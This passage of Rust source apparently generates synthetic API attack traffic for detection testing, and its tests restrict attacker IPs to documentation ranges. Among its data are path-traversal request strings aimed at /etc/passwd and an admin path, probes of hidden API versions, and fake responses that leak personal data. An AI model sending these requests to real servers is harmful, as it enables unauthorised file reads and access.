                0 => ("TRACE", "/", "HTTP/1.1", 405),
                1 => ("TRACK", "/api/v2/orders", "HTTP/1.1", 405),
                2 => ("PROPFIND", "/api/v2/", "HTTP/1.1", 405),
                3 => ("GET", "/api/v2/..;/admin/users", "HTTP/1.0", 400),
                4 => (
                    "GET",
                    "/api/v2/%252e%252e/%252e%252e/etc/passwd",
                    "HTTP/1.1",
                    400,
                ),
                _ => ("DEBUG", "/api/v2/products", "HTTP/1.1", 501),
            };
        let ev = c.ev(m, p, "", status);
        ev.protocol = Cow::Borrowed(proto);
        c.gap(2_000.0);
    }
}

/// Ordinary browsing (used from threat-intel and Tor addresses).
fn browse(c: &mut Ctx<'_>, gap_ms: f64) {
    let u = c.browser_user();
    c.ua = u.ua;
    for _ in 0..c.n {
        let id = c.rng.range(1, 5000);
        match c.rng.below(4) {
            0 => {
                let ev = c.ev("GET", "/api/v2/orders", "", 200);
                as_user(ev, u);
            }
            1 => {
                let path = render("/api/v2/users/{id}", u64::from(u.id));
                let ev = c.ev("GET", path, "", 200);
                as_user(ev, u);
            }
            _ => {
                c.ev("GET", render("/api/v2/products/{id}", id), "", 200);
            }
        }
        c.gap(gap_ms);
    }
}

fn threat_intel_ip(c: &mut Ctx<'_>) {
    browse(c, 6_000.0);
}

fn tor_exit(c: &mut Ctx<'_>) {
    browse(c, 4_000.0);
}

fn sensitive_data_exposure(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = u.ua;
    for _ in 0..c.n {
        let victim = c.user();
        let body = c.body(|r| {
            format!(
                "{{\"id\":{},\"username\":\"{}\",\"email\":\"{}@mail.example\",\"ssn\":\"{:03}-{:02}-{:04}\",\"card_number\":\"4111 1111 1111 1111\",\"password_hash\":\"$2b$12$abcdefghijklmnopqrstuv0123456789abcdefghijklmnopq\"}}",
                victim.id,
                victim.name,
                victim.name,
                r.range(100, 899),
                r.range(10, 99),
                r.range(1000, 9999)
            )
        });
        let path = render("/api/v2/users/{id}", u64::from(victim.id));
        let bytes = c.rng.range(4_000, 12_000);
        let ev = c.ev("GET", path, "expand=payment_methods,identity", 200);
        as_user(ev, u);
        ev.response_bytes = Some(bytes);
        if let Some(b) = body {
            ev.response_headers.push((
                Cow::Borrowed("content-type"),
                Cow::Borrowed("application/json"),
            ));
            ev.response_body = Some(b);
        }
        c.gap(6_000.0);
    }
}

fn security_misconfig(c: &mut Ctx<'_>) {
    const TRACES: &[&str] = &[
        "Traceback (most recent call last):\n  File \"/app/orders/views.py\", line 88, in create\n    total = Decimal(body[\"total\"])\nKeyError: 'total'",
        "java.lang.NullPointerException: Cannot invoke \"String.length()\"\n\tat com.shop.orders.OrderController.create(OrderController.java:142)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)",
        "Error: connect ECONNREFUSED 10.0.3.7:5432\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16)",
    ];
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let trace = *c.rng.pick(TRACES);
        let body = c.body(|_| trace.to_string());
        let ev = c.ev("POST", "/api/v2/orders", "debug=1", 500);
        ev.response_headers.extend([
            (Cow::Borrowed("content-type"), Cow::Borrowed("text/plain")),
            (
                Cow::Borrowed("server"),
                Cow::Borrowed("Apache/2.4.29 (Ubuntu)"),
            ),
            (Cow::Borrowed("x-powered-by"), Cow::Borrowed("Express")),
            (
                Cow::Borrowed("access-control-allow-origin"),
                Cow::Borrowed("*"),
            ),
            (
                Cow::Borrowed("access-control-allow-credentials"),
                Cow::Borrowed("true"),
            ),
        ]);
        ev.response_body = body;
        ev.response_bytes = Some(trace.len() as u64);
        c.gap(8_000.0);
    }
}

fn improper_inventory(c: &mut Ctx<'_>) {
    const T: &[&str] = &[
        "/api/v0/users/{id}",
        "/api/internal/orders/{id}",
        "/api/beta/payments/{id}",
        "/api/v2-dev/admin/users/{id}",
        "/api/legacy/products/{id}",
    ];
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let t = *c.rng.pick(T);
        let path = render(t, c.rng.range(1, 5000));
        let status = if c.rng.chance(0.8) { 200 } else { 404 };
        c.ev("GET", path, "", status);
        c.gap(4_000.0);
    }
}

fn auth_failures(c: &mut Ctx<'_>) {
    const T: &[&str] = &["/api/v2/orders", "/api/v2/cart", "/api/v2/users/{id}"];
    c.ua = BROWSER_UAS[4];
    for _ in 0..c.n {
        let sub = format!("user{}", c.rng.range(1, 99_999));
        let token = format!(
            "Bearer {}",
            jwt(&mut c.rng, &sub, c.t / 1000 - 90 * 86_400, "read")
        );
        let t = *c.rng.pick(T);
        let path = render(t, c.rng.range(1, 5000));
        let ev = c.ev("GET", path, "", 401);
        ev.request_headers
            .push((Cow::Borrowed("authorization"), Cow::Owned(token)));
        ev.authenticated = true;
        c.gap(2_000.0);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_lists_every_scenario_in_order() {
        assert_eq!(SCENARIOS.len(), Scenario::ALL.len());
        for (d, &k) in SCENARIOS.iter().zip(Scenario::ALL) {
            assert_eq!(d.kind, k, "registry out of order at {}", k.id());
            assert_eq!(Scenario::from_id(k.id()), Some(k));
        }
        assert_eq!(Scenario::ALL.len(), 33);
    }

    #[test]
    fn attacker_addresses_are_documentation_ranges() {
        for (j, &k) in Scenario::ALL.iter().enumerate() {
            let ip = attacker_ip(k, j);
            let s = ip.to_string();
            assert!(
                s.starts_with("203.0.113.")
                    || s.starts_with("198.51.100.")
                    || s.starts_with("2001:db8:"),
                "{} -> {s}",
                k.id()
            );
        }
        for ip in attacker_pool(3) {
            assert!(ip.to_string().starts_with("198.51.100."), "{ip}");
        }
    }
}
